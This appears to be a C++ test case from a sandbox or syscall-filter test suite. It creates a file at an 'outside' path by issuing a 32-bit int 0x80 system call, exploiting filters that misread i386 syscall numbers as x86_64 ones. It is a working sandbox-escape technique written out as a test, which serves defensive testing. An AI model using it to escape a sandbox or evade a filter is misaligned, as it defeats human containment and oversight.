/* Make a file by a 32-bit system call (int 0x80), whose numbers a careless filter takes for others.

evidence: file
needs: x86_64
*/
#include <cstdio>
#include <cstring>
#include <sys/mman.h>

/* The value of one line "name value" of standard input. */
static const char* fact(const char* wanted) {
    static char names[64][32], values[64][256];
    static int count = 0;
    if (count == 0)
        while (count < 64 && scanf("%31s %255s", names[count], values[count]) == 2) count++;
    for (int i = 0; i < count; i++)
        if (strcmp(names[i], wanted) == 0) return values[i];
    return "";
}

int main() {
    char* low = (char*)mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    snprintf(low, 4096, "%s/new", fact("outside"));
    long answer;
    asm volatile("int $0x80" : "=a"(answer) : "a"(8), "b"(low), "c"(0666) : "memory", "r8", "r9", "r10", "r11");
    return answer < 0;
}
